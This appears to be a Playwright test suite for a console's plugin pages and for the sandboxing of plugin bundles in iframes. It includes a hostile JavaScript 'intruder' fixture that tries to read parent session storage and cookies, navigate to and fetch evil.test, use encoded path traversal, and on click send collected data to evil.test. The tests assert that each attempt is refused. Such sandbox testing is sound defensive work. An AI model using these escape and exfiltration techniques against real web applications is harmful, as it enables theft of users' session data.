"""Pages of plugins in the console: described as data, and bundles in a frame that is given little."""

import json
from pathlib import Path

import pytest
from playwright.async_api import expect

from tests.console.visitor import (
    REFUSED,
    serious_violations,
    serious_violations_in_both_modes,
    settled,
    visiting,
)

pytestmark = pytest.mark.hall_databases("sqlite")
SHIPPED = Path(__file__).parents[2] / "plugins"
LANES, WORDS = "/x/integrator-demo/lanes", "/x/example-tools"


async def test_a_described_page_is_shown_and_used(hall, visitor):
    page = await visitor.open(hall.acme.owner, "/", allowed=[REFUSED])
    # The navigation is of what people work with; a plugin to learn from is found by its name.
    navigation = page.get_by_role("navigation", name="Navigation")
    await navigation.get_by_role("link", name="Notes").wait_for()
    await settled(page)
    await expect(navigation.get_by_role("region", name="Plugins")).to_have_count(0)
    await page.keyboard.press("Control+k")
    palette = page.get_by_role("dialog", name="Command palette")
    await palette.get_by_role("combobox").fill("Shipping lanes")
    await palette.get_by_role("option", name="Shipping lanes", selected=True).wait_for()
    await page.keyboard.press("Enter")
    await page.get_by_role("heading", name="Shipping lanes", level=1).wait_for()
    table = page.get_by_role("table", name="Schedule")
    row = table.get_by_role("row", name="hamburg-shanghai")
    await expect(row).to_contain_text("32")
    await expect(row).to_contain_text("Yes")

    estimate = page.get_by_role("region", name="Estimate a shipment")
    lane = estimate.get_by_label("Lane")
    await estimate.get_by_role("button", name="Estimate").click()
    await expect(estimate).to_contain_text("Fill in “Lane”")
    await lane.fill("nowhere")
    await lane.press("Enter")
    await expect(estimate.get_by_role("alert")).to_contain_text("There is no such lane")
    await expect(lane).to_have_value("nowhere")
    await lane.fill("hamburg-shanghai")
    await lane.press("Enter")
    await expect(estimate.get_by_role("status")).to_contain_text("32")

    lanes = page.get_by_role("region", name="Lanes of the team")
    await lanes.get_by_text("hamburg-shanghai").click()
    await lanes.get_by_role("button", name="Save lanes").click()
    await page.get_by_text("Your team ships on these lanes now.").wait_for()
    await expect(row).to_contain_text("No")
    assert await serious_violations_in_both_modes(page) == []


@pytest.mark.long_form
async def test_who_may_not_is_shown_less_or_nothing(hall, visitor):
    page = await visitor.open(hall.acme.member, LANES, allowed=[REFUSED])
    await page.get_by_role("region", name="Estimate a shipment").wait_for()
    await expect(page.get_by_role("region", name="Lanes of the team")).to_have_count(0)
    # What is open stays when its plugin is switched off, and a reload says which gate it was.
    await page.get_by_label("Lane").fill("half typed")
    await hall.acme.admin.post("/api/plugins/integrator-demo", {"enabled": False})
    await page.clock.install()
    await page.clock.fast_forward("02:00")
    await page.evaluate("window.dispatchEvent(new Event('visibilitychange'))")
    await page.get_by_text("still yours to copy").wait_for()
    await expect(page.get_by_label("Lane")).to_have_value("half typed")
    await page.reload()
    await page.get_by_role("heading", name="Integrator demo", level=1).wait_for()
    await page.get_by_text("Integrator demo is off for your team. An admin of your team can").wait_for()
    admin = await visitor.open(hall.acme.admin, LANES)
    await admin.get_by_role("main").get_by_role("link", name="Features").click()
    await admin.get_by_role("heading", name="Features", level=1).wait_for()
    await hall.acme.admin.post("/api/plugins/integrator-demo", {"enabled": True})
    page = await visitor.open(hall.acme.viewer, LANES)
    await page.get_by_text("This page is not there for you.").wait_for()
    await expect(page.get_by_role("link", name="Shipping lanes")).to_have_count(0)
    await expect(page.get_by_role("link", name="Example tools")).to_have_count(0)


@pytest.mark.long_form
async def test_a_bundle_speaks_the_readers_language_and_wears_the_colours_of_the_console(hall, visitor):
    assert (await hall.acme.member.post("/api/profile", {"locale": "nl"})).status_code == 200
    page = await visitor.open(
        hall.acme.member, WORDS, color_scheme="dark", allowed=["net::ERR_INTERNET_DISCONNECTED"]
    )
    frame = page.frame_locator("iframe")
    await frame.get_by_role("heading", name="Woorden tellen").wait_for()
    background = "getComputedStyle(document.documentElement).backgroundColor"
    around = await page.evaluate(background)
    within = page.frames[1]
    assert await within.evaluate(background) == around
    await page.emulate_media(color_scheme="light")
    await expect(frame.locator("html")).not_to_have_css("background-color", around)
    await frame.get_by_label("Tekst").fill("een twee drie")
    await frame.get_by_role("button", name="Tel woorden").click()
    await expect(frame.get_by_role("status")).to_have_text("3 woorden, 13 tekens")
    # A server that was away for a while is no reason to begin anew with what somebody types.
    await page.context.set_offline(True)
    await page.get_by_text("De server is niet bereikbaar").wait_for()
    async with page.expect_response("**/api/ui"):
        await page.context.set_offline(False)
    await expect(frame.get_by_label("Tekst")).to_have_value("een twee drie")
    await page.get_by_role("button", name="Vernieuwen").click()
    await expect(frame.get_by_label("Tekst")).to_have_value("")
    assert await serious_violations(page) == []


HOSTILE = """
import { connect } from "./guildhall.js";
const tries = {};
async function attempt(name, what) {
  try { tries[name] = String(await what()); } catch (error) { tries[name] = "refused: " + error.name; }
}
const answered = (response) => `${response.status} ${response.type}`;
await attempt("parent", () => parent.document.title);
await attempt("parent_storage", () => parent.sessionStorage.getItem("guildhall.session"));
await attempt("storage", () => localStorage.length + sessionStorage.length);
await attempt("cookies", () => document.cookie);
await attempt("database", () => indexedDB.open("x"));
await attempt("top", () => { top.location.href = "https://evil.test/"; return "went"; });
await attempt("window", () => window.open("https://evil.test/"));
await attempt("other_tabs", () => new Promise((resolve) => {
  const channel = new BroadcastChannel("guildhall.session");
  channel.onmessage = ({ data }) => resolve(JSON.stringify(data));
  channel.postMessage({ type: "ask" });
  setTimeout(() => resolve("silence"), 200);
}));
await attempt("api", () => fetch("/api/whoami").then(answered));
await attempt("elsewhere", () => fetch("https://evil.test/").then(answered));
const neighbour = location.href.replace("/intruder/", "/example-tools/");
await attempt("other_bundle", () => fetch(neighbour).then(answered));
const hall = await connect();
const call = (name, ...what) => attempt(name, async () => {
  try { return JSON.stringify(await hall.call(...what)); } catch (refused) { return refused.status; }
});
await call("own", "GET", "/secret");
await call("denied", "POST", "/secret", {});
await call("whoami", "GET", "/api/whoami");
await call("neighbour", "POST", "/api/x/example-tools/word-count", { text: "a" });
await call("climb", "POST", "/../example-tools/word-count", { text: "a" });
await call("encoded", "POST", "/%2e%2e/example-tools/word-count", { text: "a" });
await call("ticket", "POST", "/ticket", {});
await call("large", "PUT", "/secret", { text: "a".repeat(300000) });
const endless = {};
endless.text = endless;
await call("endless", "PUT", "/secret", endless);
await attempt("flood", async () => {
  // Each greeting gives a channel of its own; what may run at once is the frame's all the same.
  for (let greeting = 0; greeting < 3; greeting += 1) {
    const port = await new Promise((resolve) => {
      addEventListener("message", ({ ports }) => resolve(ports[0]), { once: true });
      parent.postMessage({ guildhall: "hello" }, "*");
    });
    const refused = new Promise((resolve) => { port.onmessage = ({ data }) => resolve(data.status); });
    for (let id = 0; id < 9; id += 1) port.postMessage({ type: "call", id, method: "GET", path: "/slow" });
    await refused;
  }
  return "done";
});
const shown = JSON.stringify({ ...tries, given: Object.keys(hall).sort().join() });
document.getElementById("tries").textContent = shown;
document.body.onclick = () => { location.href = "https://evil.test/?" + encodeURIComponent(shown); };
"""
PLUGIN = """
from guildhall_sdk import Route, hookimpl
from guildhall_sdk.schema import obj, string

BODY = obj({"text": string()})


async def answer(call):
    return {"as": call.principal.username}


@hookimpl
def declare_routes():
    return [
        Route("GET", "secret", answer, "One's own", permission="search"),
        Route("GET", "slow", answer, "One's own", permission="search"),
        Route("PUT", "secret", answer, "One's own", permission="search", body=BODY),
        Route("POST", "secret", answer, "For admins", permission="settings:manage", body=obj({})),
    ]
"""
MANIFEST = {
    "id": "intruder",
    "name": "Intruder",
    "version": "1",
    "description": "Tries.",
    "entry": "plugin.py",
}


@pytest.fixture
def intruder(tmp_path):
    bundle = tmp_path / "intruder/bundle"
    bundle.mkdir(parents=True)
    (tmp_path / "intruder/plugin.json").write_text(json.dumps(MANIFEST))
    (tmp_path / "intruder/plugin.py").write_text(PLUGIN)
    (bundle / "index.html").write_text('<p id="tries"></p><script type="module" src="x.js"></script>')
    (bundle / "x.js").write_text(HOSTILE)
    (bundle / "guildhall.js").write_text((SHIPPED / "example-tools/bundle/guildhall.js").read_text())
    return f"{SHIPPED}:{tmp_path}"


async def test_a_frame_that_tries_to_get_out_gets_nothing(open_hall, open_page, intruder):
    async with visiting(open_hall(SERVICE_PLUGINS=intruder), open_page) as (hall, visitor):
        page = await visitor.open(hall.acme.member, allowed=["."])
        seen, held = [], []
        await page.route("**/slow", lambda route: held.append(route))
        await page.goto(f"{hall.base_url}/x/intruder")
        page.context.on("request", lambda request: seen.append(request.url))
        shown = page.frame_locator("iframe").locator("#tries")
        await expect(shown).to_contain_text("given")
        tries = json.loads(await shown.text_content())
        refused = {name for name, what in tries.items() if what.startswith("refused: ")}
        assert refused == {
            *("parent", "parent_storage", "storage", "cookies", "database", "top"),
            *("api", "elsewhere", "other_bundle"),
        }, tries
        assert tries["window"] == "null" and tries["other_tabs"] == "silence"
        assert json.loads(tries["own"]) == {"as": hall.acme.member.username}
        for name in ("denied", "whoami", "neighbour", "climb", "encoded", "ticket"):
            assert tries[name] == "404", name
        assert tries["large"] == "413"
        assert tries["endless"] == "400"
        assert (tries["flood"], len(held)) == ("done", 8)
        assert tries["given"] == "locale,theme"
        await shown.click()
        await expect(shown).to_have_count(0)
        await page.get_by_role("heading", name="Intruder", level=1).wait_for()
        assert page.url == f"{hall.base_url}/x/intruder"
        assert [url for url in seen if "evil.test" in url] == []


async def test_an_address_with_a_ticket_opened_by_itself_has_no_origin_of_ours(hall, visitor):
    issued = await hall.acme.member.post("/api/x/example-tools/ticket", {})
    page = await visitor.open(path=issued.json()["path"])
    assert await page.evaluate("self.origin") == "null"
